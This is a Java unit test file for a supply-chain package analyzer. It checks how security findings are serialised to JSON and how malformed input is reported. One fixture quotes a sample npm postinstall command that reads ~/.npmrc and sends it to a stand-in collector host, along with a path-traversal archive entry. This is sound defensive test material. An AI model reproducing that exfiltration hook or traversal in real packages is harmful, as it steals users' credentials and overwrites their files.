package dev.gatehouse.core.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.gatehouse.analyzer.Analysis;
import dev.gatehouse.analyzer.ArchiveFinding;
import dev.gatehouse.analyzer.ArchiveProblem;
import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Evidence;
import dev.gatehouse.analyzer.Finding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class AnalysisJsonTest {
  private final AnalysisJson json = new AnalysisJson();

  @Test
  void everyTriggerCapabilityProblemSeverityAndKindSurvivesARoundTrip() {
    List<Finding> findings = new ArrayList<>();
    Severity[] severities = Severity.values();
    Capability[] capabilities = Capability.values();
    for (Trigger trigger : Trigger.values()) {
      int i = trigger.ordinal();
      findings.add(new CodeFinding(trigger, List.of(capabilities[i % capabilities.length],
          capabilities[(i + 3) % capabilities.length]), severities[i % severities.length],
          trigger.label() + " does something", Evidence.of("lib/" + trigger.key() + ".js", "line " + i, "excerpt " + i)));
    }
    findings.add(new CodeFinding(Trigger.STATIC_INITIALIZER, List.of(), Severity.LOW, "does nothing notable",
        Evidence.whole("")));
    for (ArchiveProblem problem : ArchiveProblem.values()) {
      findings.add(new ArchiveFinding(problem, severities[problem.ordinal() % severities.length], problem.label(),
          Evidence.of("entry/" + problem.key(), "", "\"quoted\" \\ and ünïcödé")));
    }
    for (ArtifactKind kind : ArtifactKind.values()) {
      Analysis analysis = new Analysis(Samples.sha256(kind.name()), 3, kind, findings);

      assertThat(json.read(json.write(analysis))).isEqualTo(analysis);
    }
  }

  @Test
  void aCodeFindingIsWrittenWithKeysAndItsEvidence() throws Exception {
    Analysis analysis = Samples.exfiltratingTarball(Samples.sha256("evil-1.0.0.tgz"));

    String written = json.write(analysis);

    assertThat(new ObjectMapper().readTree(written)).isEqualTo(new ObjectMapper().readTree("""
        {"sha256": "%s", "analyzerVersion": 1, "kind": "npm-tarball", "findings": [
          {"type": "code", "trigger": "npm-lifecycle-script", "capabilities": ["network", "credential-read"],
           "severity": "critical", "summary": "postinstall reads ~/.npmrc and sends it over the network",
           "path": "package/package.json", "location": "scripts.postinstall",
           "evidence": "node -e \\"require('https').get('https://collector.invalid/?t='+require('fs').readFileSync(...))\\""},
          {"type": "archive", "problem": "path-traversal", "severity": "high",
           "summary": "entry name escapes the archive: package/../../.bashrc",
           "path": "package/../../.bashrc", "location": "",
           "evidence": "entry name escapes the archive: package/../../.bashrc"}]}
        """.formatted(analysis.sha256())));
  }

  @Test
  void findingsAloneRoundTripAsAnArray() {
    List<Finding> findings = Samples.exfiltratingTarball(Samples.sha256("x")).findings();

    String written = json.writeFindings(findings);

    assertThat(written).startsWith("[");
    assertThat(json.readFindings(written)).isEqualTo(findings);
  }

  @Test
  void anUnknownTriggerIsAnErrorNamingTheFieldNotADroppedFinding() {
    String stored = "[{\"type\":\"code\",\"trigger\":\"moon-phase\",\"capabilities\":[],\"severity\":\"low\","
        + "\"summary\":\"s\",\"path\":\"\",\"location\":\"\",\"evidence\":\"\"}]";

    assertThatThrownBy(() -> json.readFindings(stored))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("analysis JSON: findings[0].trigger: unknown value \"moon-phase\"");
  }

  @Test
  void aMissingFieldOrUnknownCapabilityOrTypeIsNamed() {
    assertThatThrownBy(() -> json.readFindings("[{\"type\":\"archive\",\"problem\":\"bomb\",\"severity\":\"high\"}]"))
        .hasMessage("analysis JSON: findings[0].summary: missing or not a string");
    assertThatThrownBy(() -> json.readFindings("[{\"type\":\"code\",\"trigger\":\"java-agent\","
        + "\"capabilities\":[\"telepathy\"],\"severity\":\"low\",\"summary\":\"s\",\"path\":\"\",\"location\":\"\","
        + "\"evidence\":\"\"}]"))
        .hasMessage("analysis JSON: findings[0].capabilities[0]: unknown capability \"telepathy\"");
    assertThatThrownBy(() -> json.readFindings("[{\"type\":\"vibe\",\"severity\":\"low\",\"summary\":\"s\","
        + "\"path\":\"\",\"location\":\"\",\"evidence\":\"\"}]"))
        .hasMessage("analysis JSON: findings[0].type: expected \"code\" or \"archive\", was \"vibe\"");
    assertThatThrownBy(() -> json.read("{\"sha256\":\"nothex\",\"analyzerVersion\":1,\"kind\":\"jar\",\"findings\":[]}"))
        .hasMessage("analysis JSON: not a lowercase hex SHA-256: nothex");
    assertThatThrownBy(() -> json.read("{not json"))
        .hasMessageStartingWith("analysis JSON: analysis is not valid JSON: ");
  }
}
